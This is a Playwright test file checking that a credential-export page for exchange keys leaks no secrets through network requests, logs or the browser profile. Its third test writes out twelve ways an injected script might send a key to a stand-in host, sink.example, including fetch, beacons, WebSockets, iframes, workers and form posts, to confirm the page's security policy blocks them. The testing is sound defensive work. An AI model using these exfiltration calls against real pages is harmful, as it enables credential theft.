// Nothing leaves the page.
import { chromium } from "@playwright/test";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { launchOptions } from "../../playwright.config.js";
import { EXCHANGE, card, downloaded, expect, exportAs, openCard, paste, serveAt, store, test } from "./support/page.js";
import { searchProfile } from "./support/profile.js";
import { entriesOf, secretsOf, vectors } from "./support/vectors.js";
import { recoverUnconfirmed } from "./support/wallet-flow.js";
import { addWallet } from "./support/wallets.js";

const [vector, other] = vectors;

test("the page asks for its own files and nothing else, whatever is done with it", async ({ page, context }) => {
  const requests = await serveAt(context);
  await addWallet(context, { vector });
  await store(page, entriesOf([other]));
  /** @type {string[]} */
  const logged = [];
  page.on("console", (message) => logged.push(message.text()));
  await page.goto(EXCHANGE);
  await recoverUnconfirmed(page);
  for (const label of ["STARK private key", "API secret", "API passphrase"]) {
    await card(page, vector)
      .getByRole("button", { name: `Show: ${label}` })
      .click();
  }
  await page.getByRole("button", { name: "Save in this browser" }).click();
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await exportAs(page, "My own code", "JSON");
  await downloaded(page, () => page.getByRole("button", { name: "Save file" }).click());
  await openCard(page, other);
  await card(page, other).getByRole("button", { name: "Delete from this browser" }).click();
  await page.getByRole("button", { name: "Delete", exact: true }).click();
  await expect(page.locator(".status")).toContainText("Deleted");

  const files = new Set(requests.map(({ url }) => url.replace(EXCHANGE, "")));
  for (const file of files) {
    expect(file).toMatch(/^\/($|page\.js$|style\.css$|icon\.svg$|locales\/en\.json$|ui\/[a-z-]+\.js$|stark-credentials\/)/);
  }
  expect(requests.every(({ method, body }) => method === "GET" && body === null)).toBe(true);
  expect(files.size).toBe(requests.length);
  const traces = [...logged, page.url(), await page.title(), ...files].join("\n");
  for (const secret of [vector, other].flatMap(secretsOf)) expect(traces).not.toContain(secret);
});

test("no passphrase gets into the browser's profile, shown or not", async () => {
  const profile = await mkdtemp(join(tmpdir(), "profile-"));
  const typed = {
    control: "no-secret-at-all",
    own: "a passphrase of my own, shown",
    again: "hidden the second time",
    opening: "a passphrase to open with",
  };
  try {
    const context = await chromium.launchPersistentContext(profile, { ...launchOptions, acceptDownloads: true });
    let made = "";
    try {
      await serveAt(context);
      const page = context.pages()[0];
      await store(page, entriesOf([vector]));
      await page.goto(EXCHANGE);
      await paste(page, "age-encryption.org/v1\n-> scrypt");
      await page.getByRole("textbox", { name: "Backup password" }).fill(typed.opening);
      await page.getByRole("button", { name: "Show: Backup password" }).click();
      await page.evaluate(() => document.body.append(Object.assign(document.createElement("input"), { id: "control" })));
      await page.locator("#control").fill(typed.control);
      // What a page has in its fields is written when it is left.
      await page.goto("about:blank");
      await page.goto(EXCHANGE);
      await exportAs(page, "Safekeeping", "Encrypted backup");
      const dialog = page.getByRole("dialog");
      const words = dialog.getByRole("status", { name: "Backup password" });
      await expect(words).toHaveText(/-/);
      made = await words.innerText();
      await dialog.getByRole("radio", { name: "A password of my own" }).check();
      await dialog.getByRole("textbox", { name: "Backup password" }).fill(typed.own);
      await dialog.getByRole("button", { name: "Show: Backup password" }).click();
      await expect(dialog.getByRole("textbox", { name: "Backup password" })).toHaveAttribute("type", "text");
      await dialog.getByRole("textbox", { name: "Repeat it" }).fill(typed.again);
      await dialog.getByRole("radio", { name: "A suggested password" }).check();
      await expect(words).toBeVisible();
      await page.goto("about:blank");
    } finally {
      await context.close();
    }
    const isIn = await searchProfile(profile);
    for (const secret of [made, typed.own, typed.again, typed.opening]) expect(isIn(secret), secret).toBe(false);
    // The control: what is typed into a field that holds no secret is found.
    expect(isIn(typed.control)).toBe(true);
  } finally {
    await rm(profile, { recursive: true, force: true, maxRetries: 5 });
  }
});

test.describe(() => {
  test.use({ troubled: true });

  test("the page's policy stops every way out, also for a script that gets in", async ({ page, context }) => {
    const requests = await serveAt(context);
    await page.goto(EXCHANGE);
    await expect(page.getByRole("heading", { name: "Where are your keys?" })).toBeVisible();
    const before = requests.length;
    const stopped = await page.evaluate(async () => {
      const sink = "https://sink.example/?key=1";
      const add = (/** @type {string} */ tag, /** @type {object} */ properties) => {
        const element = Object.assign(document.createElement(tag), properties);
        document.body.append(element);
        return element;
      };
      /** @type {Record<string, () => unknown>} */
      const attempts = {
        fetch: () => fetch(sink).catch(() => {}),
        beacon: () => navigator.sendBeacon(sink, "key"),
        xhr: () => {
          const request = new XMLHttpRequest();
          request.open("POST", sink);
          request.send("key");
        },
        webSocket: () => new WebSocket("wss://sink.example/?key=1"),
        eventSource: () => new EventSource(sink),
        image: () => add("img", { src: sink }),
        script: () => add("script", { src: sink }),
        inlineScript: () => add("script", { textContent: `fetch("${sink}")` }),
        style: () => add("link", { rel: "stylesheet", href: sink }),
        frame: () => add("iframe", { src: sink }),
        // A worker has the page's policy, and says itself what that has stopped.
        worker: () => {
          const told = "addEventListener('securitypolicyviolation', () => postMessage(0));";
          const worker = new Worker(URL.createObjectURL(new Blob([`${told} fetch("${sink}").catch(() => {})`])));
          worker.onmessage = () => document.dispatchEvent(new Event("securitypolicyviolation"));
        },
        form: () => /** @type {HTMLFormElement} */ (add("form", { action: sink, method: "post" })).submit(),
      };
      /** @type {string[]} */
      const stopped = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        const violation = new Promise((resolve) => document.addEventListener("securitypolicyviolation", resolve, { once: true }));
        try {
          attempt();
        } catch {
          // Some throw as well.
        }
        await violation;
        stopped.push(name);
      }
      return stopped;
    });
    expect(stopped).toHaveLength(12);
    expect(requests.slice(before)).toEqual([]);
  });
});
